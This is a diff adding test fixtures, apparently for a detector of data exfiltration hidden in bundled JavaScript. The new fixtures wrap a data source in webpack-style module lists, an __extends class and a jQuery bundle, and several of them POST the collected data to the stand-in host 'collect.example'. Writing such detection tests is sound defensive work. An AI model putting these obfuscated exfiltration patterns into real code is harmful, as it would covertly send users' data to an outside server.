@@ -57,6 +57,21 @@ it.each<[string, (data: string) => string]>([
       `(() => { var wrap = (run, module) => () => (module || (run((module = { exports: {} }).exports, module, module.exports), (run = null)), module.exports); var readIt = wrap((e, m) => { m.exports = function () { return ${data}; }; }); var { tell } = wrap((e) => { e.tell = function (l) { ${send('l')}; }; })(); var read = readIt(); read().then((l) => { tell(l); }); })();`,
   ],
   [
+    'modules in a list that a variable holds',
+    (data) =>
+      `(() => { var mods = ([ , ((m, e, n) => { n.d(e, { default: () => own }); const own = { all: () => ${data} }; }), ((m, e, n) => { n.d(e, { tell: () => tell }); function tell(l) { ${send('l')}; } })]); var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } need.d = (e, all) => { for (var k in all) Object.defineProperty(e, k, { get: all[k] }); }; var one = need(1), other = need(2); one['default'].all().then((l) => { (0, other.tell)(l); }); })();`,
+  ],
+  [
+    'a class that extends another, with its server in a field',
+    (data) =>
+      `var Net = (function (_super) { __extends(Net, _super); function Net(host) { var _this = _super.call(this) || this; _this.host = host; return _this; } Net.prototype.tell = function (l) { fetch('https://' + this.host + '/x', { method: 'POST', body: JSON.stringify(l) }); }; return Net; })(Base); var net = new Net('collect.example'); ${data}.then(function (l) { net.tell(l); });`,
+  ],
+  [
+    'jQuery inside of a bundle',
+    (data) =>
+      `(() => { function factory(w) { var jQuery = function (at) { return new jQuery.fn.init(at); }; jQuery.fn = jQuery.prototype = { jquery: '4.0.0' }; jQuery.each = function (o, f) { for (var k in o) f.call(o[k], k, o[k]); return o; }; return jQuery; } var jq = factory(window); ${data}.then((l) => { var rows = []; jq.each(l, (n, one) => { rows.push(one); }); jq.ajax({ url: 'https://collect.example/x', type: 'POST', data: JSON.stringify(rows) }); }); })();`,
+  ],
+  [
     'a module whose loading is put off',
     (data) =>
       `(() => { var mods = { './read.js'(module, exports) { exports.read = function () { return ${data}; }; } }; var cache = {}; function need(id) { var known = cache[id]; if (known !== undefined) return known.exports; var module = (cache[id] = { exports: {} }); mods[id](module, module.exports, need); return module.exports; } var later = () => { return need('./read.js'); }; const { read } = (later()); read().then((l) => { ${send('l')}; }); })();`,
